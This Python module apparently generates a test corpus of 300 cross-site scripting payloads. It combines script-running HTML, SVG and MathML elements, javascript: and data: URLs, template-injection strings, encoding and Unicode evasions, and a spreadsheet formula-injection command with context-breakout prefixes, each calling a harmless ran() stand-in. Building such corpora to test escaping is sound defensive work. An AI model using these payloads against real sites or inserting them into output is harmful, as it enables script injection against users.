"""Three hundred texts that run script where somebody forgot to escape them.

Each would call `ran()` in a page that took it for markup: `hostile_texts` builds them from the ways in which browsers have
been talked into it (elements, attributes, addresses, broken comments, other alphabets of quoting) times the places in which
a text may stand (between elements, in an attribute, in a script, in a style, in a template).
"""

from html import escape
from itertools import islice, product
from urllib.parse import quote

ELEMENTS = (
    "<script>ran()</script>",
    "<ScRiPt>ran()</sCrIpT>",
    "<script >ran()</script\t>",
    "<script/x>ran()</script>",
    "<script src=data:text/javascript,ran()></script>",
    "<script type=module>ran()</script>",
    "<scr<script>ipt>ran()</scr</script>ipt>",
    "<img src=x onerror=ran()>",
    "<img/src=x/onerror=ran()>",
    '<img src="x" onerror="ran()">',
    "<img src=x onerror=&#114;&#97;&#110;()>",
    "<IMG SRC=x OnErRoR=ran()>",
    "<img src=x:x onerror\n=ran()>",
    "<image href=x onerror=ran()>",
    "<svg onload=ran()>",
    "<svg/onload=ran()>",
    "<svg><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:ran()><text y=20>x</text></a></svg>",
    "<svg><set onbegin=ran() attributeName=x>",
    "<svg><use href=data:image/svg+xml,<svg/onload=ran()>></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.ran()</script>'></foreignObject></svg>",
    "<math><mtext></mtext><script>ran()</script></math>",
    "<math><mi//xlink:href='data:x,<script>ran()</script>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran()>",
    "<body onload=ran()>",
    "<body onpageshow=ran()>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<iframe src=javascript:parent.ran()></iframe>",
    "<iframe src='data:text/html,<script>parent.ran()</script>'></iframe>",
    "<object data=javascript:ran()></object>",
    "<object data='data:text/html,<script>ran()</script>'></object>",
    "<embed src=javascript:ran()>",
    "<video><source onerror=ran()></video>",
    "<video src=x onerror=ran()></video>",
    "<audio src=x onerror=ran()>",
    "<details open ontoggle=ran()><summary>x</summary></details>",
    "<input autofocus onfocus=ran()>",
    "<select autofocus onfocus=ran()>",
    "<textarea autofocus onfocus=ran()></textarea>",
    "<button autofocus onfocus=ran()>x</button>",
    "<marquee onstart=ran()>x</marquee>",
    "<style onload=ran()></style>",
    "<style>@import 'javascript:ran()';</style>",
    "<link rel=stylesheet href=data:text/css,* onload=ran()>",
    "<link rel=import href='data:text/html,<script>ran()</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:ran()'>",
    "<base href=javascript:ran()//>",
    "<form><button formaction=javascript:ran()>x</button></form>",
    "<a href=javascript:ran()>x</a>",
    "<a href='java\tscript:ran()'>x</a>",
    "<a href=' javascript:ran()'>x</a>",
    "<a href='&#106;avascript:ran()'>x</a>",
    "<template><script>ran()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
    "<xss style=animation-name:x onanimationstart=ran()>",
    "<p contenteditable onfocus=ran() autofocus>x</p>",
    "<dialog open onclose=ran()>x</dialog>",
    "<keygen autofocus onfocus=ran()>",
    "<isindex action=javascript:ran() type=image>",
)
PLACES = (
    "{}",
    "</textarea>{}",
    "</title></style></script>{}",
    "\"'>{}",
    "--><!-- -->{}",
)
BARE = (
    '" onmouseover="ran()',
    "' autofocus onfocus='ran()",
    '" autofocus onfocus=ran() x="',
    "javascript:ran()",
    "JaVaScRiPt:ran()",
    "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==",
    "vbscript:ran()",
    "{{constructor.constructor('ran()')()}}",
    "{% templatetag openblock %} ran() {% templatetag closeblock %}",
    "${ran()}",
    "#{ran()}",
    "<%= ran() %>",
    "';ran();//",
    '";ran();//',
    "\\';ran();//",
    "</script><script>ran()</script>",
    "<!--><script>ran()</script>-->",
    "<![CDATA[<script>ran()</script>]]>",
    "[x](javascript:ran())",
    "![x](x){onerror=ran()}",
    "<javascript:ran()>",
    "\u202e<script>ran()</script>",
    "<scr\u200bipt>ran()</script>",
    "\uff1cscript\uff1eran()\uff1c/script\uff1e",
    "\u2028<script>ran()</script>",
    "+ADw-script+AD4-ran()+ADw-/script+AD4-",
    "&lt;script&gt;ran()&lt;/script&gt;",
    "&#60;script&#62;ran()&#60;/script&#62;",
    "\\u003cscript\\u003eran()\\u003c/script\\u003e",
    "\\x3cscript\\x3eran()\\x3c/script\\x3e",
    "%3Cscript%3Eran()%3C/script%3E",
    "expression(ran())",
    "url(javascript:ran())",
    "</style><script>ran()</script>",
    "<p/onclick=ran()//",
    "<a<img src=x onerror=ran()>",
    "<<script>ran()//<</script>",
    "<img src=`x`onerror=ran()>",
    "=cmd|' /C ran'!A0",
    "@import 'javascript:ran()'",
)


def hostile_texts() -> list[str]:
    """Return the three hundred texts, all different."""
    placed = (place.format(element) for place, element in product(PLACES, ELEMENTS))
    coded = (code(element) for element in ELEMENTS for code in (escape, quote))
    texts = list(dict.fromkeys([*BARE, *islice(placed, 240), *coded]))[:300]
    assert len(texts) == 300
    return texts
